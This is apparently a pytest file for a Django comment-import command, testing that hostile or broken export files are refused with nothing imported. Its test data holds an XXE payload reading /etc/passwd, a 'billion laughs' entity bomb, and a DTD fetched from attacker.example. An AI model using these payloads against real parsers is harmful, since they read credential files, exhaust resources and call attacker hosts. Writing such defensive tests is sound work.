"""Hostile and broken files: refused whole, with the line or the reason, nothing imported;
and from the shell, a non-zero exit status and never a traceback."""

import os
import subprocess
import sys
import time

import pytest
from django.core.management import CommandError

from tests.imports.conftest import FIXTURES, nothing_imported

DISQUS = FIXTURES / "disqus.xml"

XXE = """<?xml version="1.0"?>
<!DOCTYPE disqus [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
  <thread dsq:id="1"><link>https://news.example/a</link><title>A</title></thread>
  <post dsq:id="2"><message>&secret;</message><createdAt>2014-01-01T00:00:00Z</createdAt>
    <thread dsq:id="1"/></post>
</disqus>
"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<item><title>&lol9;</title><link>https://news.example/x</link><wp:post_id>1</wp:post_id>
</item></channel></rss>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">
<disqus xmlns="http://disqus.com"></disqus>
"""


def write(tmp_path, text: str | bytes, name: str = "export.xml"):
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


@pytest.mark.parametrize(("fmt", "text"), [
    ("disqus", XXE), ("wordpress", LAUGHS), ("disqus", EXTERNAL_DTD),
])
def test_entities_and_dtds_are_refused_before_anything_is_read(gazette, btl_import,
                                                              tmp_path, fmt, text):
    started = time.monotonic()
    with pytest.raises(CommandError, match="possibly hostile"):
        btl_import(fmt, write(tmp_path, text))
    assert time.monotonic() - started < 5  # no expansion, no network wait
    assert nothing_imported(gazette)


def test_a_truncated_export_imports_nothing_and_names_the_line(gazette, btl_import,
                                                               tmp_path):
    data = DISQUS.read_bytes()
    cut = data[: int(len(data) * 0.8)]
    with pytest.raises(CommandError, match=r"not well-formed XML at line \d+") as refused:
        btl_import("disqus", write(tmp_path, cut))
    assert "truncated" in str(refused.value)
    assert "Nothing was imported" in str(refused.value)
    assert nothing_imported(gazette)


def test_a_malformed_export_names_the_line(gazette, btl_import, tmp_path):
    text = DISQUS.read_text().replace("<title>A quiet story</title>",
                                      "<title>A quiet <b>story</title>")
    line = next(n for n, row in enumerate(text.splitlines(), 1) if "A quiet <b>" in row)
    with pytest.raises(CommandError, match=f"at line {line},"):
        btl_import("disqus", write(tmp_path, text))
    assert nothing_imported(gazette)


@pytest.mark.parametrize(("fmt", "path", "message"), [
    ("disqus", FIXTURES / "wordpress.xml", "not a Disqus export"),
    ("isso", FIXTURES / "disqus.xml", "not an SQLite database"),
])
def test_the_wrong_format_is_refused(gazette, btl_import, fmt, path, message):
    with pytest.raises(CommandError, match=message):
        btl_import(fmt, path)
    assert nothing_imported(gazette)


@pytest.mark.parametrize("content", [b"", b"\x00\x01\x02binary", b"just some text"])
def test_empty_and_binary_files_are_refused(gazette, btl_import, tmp_path, content):
    with pytest.raises(CommandError):
        btl_import("disqus", write(tmp_path, content))
    assert nothing_imported(gazette)


def test_an_unknown_site_is_refused(gazette, btl_import):
    with pytest.raises(CommandError, match="no site 'nowhere'"):
        btl_import("disqus", DISQUS, site="nowhere")


def _btl(*args: str, var_dir) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items()
           if k not in ("DATABASE_URL", "REDIS_URL", "SECRET_KEY")}
    env["BTL_VAR_DIR"] = str(var_dir)
    return subprocess.run([sys.executable, "-m", "belowtheline.cli", *args], env=env,
                          capture_output=True, text=True, timeout=120, check=False)


def test_from_the_shell_refusals_exit_non_zero_without_a_traceback(tmp_path):
    var = tmp_path / "var"
    assert _btl("migrate", "-v0", var_dir=var).returncode == 0
    made = _btl("shell", "-c", "from belowtheline.sites.models import Site; "
                "Site.objects.create(slug='gazette', name='G', "
                "allowed_origins='https://news.example')", var_dir=var)
    assert made.returncode == 0, made.stderr
    cut = write(tmp_path, DISQUS.read_bytes()[:3000], "cut.xml")
    for args in (["disqus", str(cut)], ["isso", str(DISQUS)], ["disqus", "/nonexistent"],
                 ["disqus", str(DISQUS), "--site", "nowhere"]):
        full = ["import", *args] if "--site" in args else ["import", *args, "--site",
                                                           "gazette"]
        done = _btl(*full, var_dir=var)
        assert done.returncode != 0
        assert "Traceback" not in done.stderr + done.stdout
        assert done.stderr.strip()  # says why
    ok = _btl("import", "disqus", str(DISQUS), "--site", "gazette", var_dir=var)
    assert ok.returncode == 0, ok.stderr
    assert "comments imported: 14" in ok.stdout
    again = _btl("import", "disqus", str(DISQUS), "--site", "gazette", var_dir=var)
    assert again.returncode == 0
    assert "nothing changed" in again.stdout
